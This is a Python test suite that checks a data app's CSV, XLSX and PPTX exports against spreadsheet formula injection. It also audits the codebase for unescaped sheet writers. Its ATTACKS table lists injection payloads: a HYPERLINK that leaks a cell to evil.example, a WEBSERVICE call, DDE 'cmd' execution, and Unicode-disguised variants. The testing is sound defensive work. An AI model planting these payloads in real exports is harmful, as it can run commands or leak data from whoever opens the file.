"""A text that a spreadsheet would compute stays a text in everything that it opens; numbers stay numbers, negative ones too."""

from __future__ import annotations

import ast
import csv
import io
import re
import tomllib
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from commands import show
from commands.load import _write_rejected
from data import rejected
from data.batches import Note, Rejected, Rejects
from data.cells import harmless
from data.loading import Loaded
from data.text import words
from pages.ui import escape, plan_grid
from pages.ui.explore import export
from pages.ui.explore.export import Export, Field
from pages.ui.plan_grid import Column
from reports.exporters import exporter
from tests.security.poison import poisoned
from tests.small_store import YANDEX, day, visits

pytestmark = pytest.mark.promise("R29")
ROOT = Path(__file__).parents[2]
ATTACKS = {
    "an equals sign": "=1+1",
    "a link": '=HYPERLINK("http://evil.example?x="&A1;"Sale")',
    "a command": "=cmd|' /C calc'!A0",
    "a page of the web": '=WEBSERVICE("http://evil.example")',
    "a plus": "+7 999 123-45-67",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "an at": "@SUM(A1:A9)",
    "a tab": "\t=1+1",
    "a return": "\r=1+1",
    "a new line": "\n=1+1",
    "a blank before": " =1+1",
    "a blank that does not break": "\u00a0=1+1",
    "nothing that is seen before": "\u200b\ufeff=1+1",
    "a sign that turns the text around": "\u202e=1+1",
    "a wide equals sign": "＝1+1",
    "a wide plus": "＋1",
    "a wide minus": "－1",
    "a wide at": "＠SUM(A1)",
    "a cell of another sheet": "sale!A1",
    "a quote and a new cell": '";=1+1;"',
    "a return inside": "sale\r=1+1",
    "a quote and a new row": '"\n=1+1',
}
SIGNS = tuple("=+-@\t\r\n＝＋－＠")


def cells(content: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def safe(cell: str) -> bool:
    """Whether a spreadsheet shows the cell, whatever it drops from its beginning."""
    return not cell.lstrip(" \u00a0\u200b\ufeff\u202e").startswith(SIGNS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_of_a_csv_is_never_a_formula(attack: str) -> None:
    text = ATTACKS[attack]
    for russian, delimiter in ((True, ";"), (False, ",")):
        found = cells(escape.sheet([text, "b"], [[text, -12.5], ["-", text]], russian), delimiter)
        assert found == [[harmless(text), "b"], [harmless(text), "-12,5" if russian else "-12.5"], ["'-", harmless(text)]]
        assert all(safe(cell) for row in found for cell in row if not cell.startswith("-12"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_a_command_prints_or_keeps_is_never_a_formula(
    attack: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = ATTACKS[attack]
    show.as_csv([{"campaign": text, "profit": -3.5}], ["campaign", "profit"])
    printed = cells(capsys.readouterr().out.encode(), ",")
    assert printed[1] == [harmless(text), "-3.5"] and safe(printed[1][0])
    note = Rejects("unreadable", "{rows} rows", {"rows": 1}, rows=(Rejected(2, text, text),))
    batch = replace(visits([(day(1), 1, YANDEX)]), origin=f"{text}.csv", notes=(note,))
    _write_rejected(tmp_path / "rows.csv", [loaded(batch, note)])
    kept = cells((tmp_path / "rows.csv").read_bytes(), ",")
    assert kept[1] == [harmless(f"{text}.csv"), "2", harmless(text), harmless(text)] and all(map(safe, kept[1]))
    assert rejected.among([note]) == (Rejected(2, text, text),), "what is kept is the row as it came; the cell is made safe on its way out"


def loaded(batch: object, note: Note) -> Loaded:
    """A load whose only note is this one."""
    made = {one: None for one in Loaded.__dataclass_fields__}
    return Loaded(**{**made, "batch": batch, "notes": (note,)})  # type: ignore[arg-type]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_of_a_workbook_is_a_text(attack: str) -> None:
    text = ATTACKS[attack]
    table = Export((Field(text, "text"), Field("b", "money")), ((text, -12.5),))
    made = export.workbook(table, {text: text}, "RUB", words("en"))
    plan = plan_grid.workbook(
        pd.DataFrame({"spend|x": [-5.0]}, index=pd.to_datetime([date(2026, 3, 1)])), [Column("spend", "x")], words("en"), "RUB", {"x": text}
    )
    assert formulas(made) == formulas(plan) == set()
    sheet = openpyxl.load_workbook(io.BytesIO(made)).worksheets[0]
    seen = text.replace("\r", "\n")  # XML knows one end of a line
    assert (sheet["A2"].data_type, str(sheet["A2"].value).replace("\r", "\n").replace("_x000D_", "\n")) == ("s", seen)
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("n", -12.5)


@pytest.mark.parametrize("format", ["xlsx", "pptx"])
@pytest.mark.parametrize("language", ["en", "ru"])
def test_no_text_of_a_document_becomes_a_formula_or_a_link(format: str, language: str) -> None:
    made = exporter(format).write(poisoned(tuple(ATTACKS.values()), language))
    ours = r"(SUM|SUBTOTAL|SUMPRODUCT|IFERROR|IF)\([A-Z0-9$:,()/*+\-<>=\"' ]*\)|[A-Z]+\d+([-+*/][A-Z]+\d+)*"
    assert {one for one in formulas(made) if not re.fullmatch(ours, one)} == set()
    assert links(made) == set()


def formulas(content: bytes) -> set[str]:
    """Every formula in the cells of a workbook, and of workbooks inside a deck."""
    found = set()
    for name, part in parts(content):
        if "worksheets/" in name:
            found |= {one.decode() for one in re.findall(rb"<f[^>]*>(.*?)</f>", part, re.DOTALL)}
        if "charts/" in name:
            # What a chart draws stands in cells of its own file: a reference is a sheet of it and a range.
            found |= {one.decode() for one in re.findall(rb"<c:f>(.*?)</c:f>", part) if b"|" in one or b"(" in one}
    return found


def links(content: bytes) -> set[str]:
    """Every place outside of the file that it leads to."""
    return {one.decode() for _, part in parts(content) for one in re.findall(rb'<Relationship [^>]*TargetMode="External"[^>]*>', part)}


def parts(content: bytes) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        held = {name: archive.read(name) for name in archive.namelist()}
    for name, part in held.items():
        yield name, part
        if name.endswith(".xlsx"):
            yield from parts(part)


@given(st.text())
def test_no_text_is_computed(text: str) -> None:
    shown = str(harmless(text))
    assert safe(shown) and "\r" not in shown
    assert shown.endswith(text) or "\r" in text


@pytest.mark.parametrize("value", [-1, -0.5, 12, date(2026, 3, 1), True, None])
def test_what_is_no_text_stays_what_it_is(value: object) -> None:
    assert harmless(value) is value


def test_no_writer_of_sheets_stands_outside_of_what_is_proved_here() -> None:
    """A new place that writes CSV or XLSX has to come by, and to switch formulas off."""
    writers, careless = set(), []
    for path in sorted(ROOT.glob("[!.]*/**/*.py")):
        name = path.relative_to(ROOT).as_posix()
        if name.startswith(("tests/", "benchmarks/")):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            called = ast.unparse(node.func)
            if called in ("csv.writer", "csv.DictWriter") or node.func.attr in ("to_csv", "to_excel"):
                writers.add(name)
            if called == "xlsxwriter.Workbook" and "strings_to_formulas" not in path.read_text(encoding="utf-8"):
                careless.append(name)
    assert writers == {"commands/load.py", "commands/show.py", "data/demo/cost_csv.py", "data/demo/demand_csv.py", "pages/ui/escape.py"}
    assert careless == []


def test_the_frameworks_own_csv_of_a_table_is_switched_off() -> None:
    assert tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))["client"]["disableDataExport"] is True


# ---------------------------------------------------------------------------------------------------------- ordinary sheets


def test_russian_sheets_open_in_russian_excel() -> None:
    made = escape.sheet(["Канал", "CPA"], [["Контекст", 1234.5]], russian=True)
    assert made.startswith(b"\xef\xbb\xbf")
    assert made.decode("utf-8-sig").splitlines() == ["Канал;CPA", "Контекст;1234,5"]


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=20), min_size=1, max_size=4))
def test_what_is_written_is_read_back(texts: list[str]) -> None:
    assert cells(escape.sheet(texts, [texts], russian=True), ";") == [[harmless(text) for text in texts]] * 2


def test_nothing_is_an_empty_cell_and_zero_is_zero() -> None:
    assert escape.sheet(["a", "b", "c"], [[None, float("nan"), 0.0]], russian=False).decode("utf-8-sig").splitlines()[1] == ",,0"
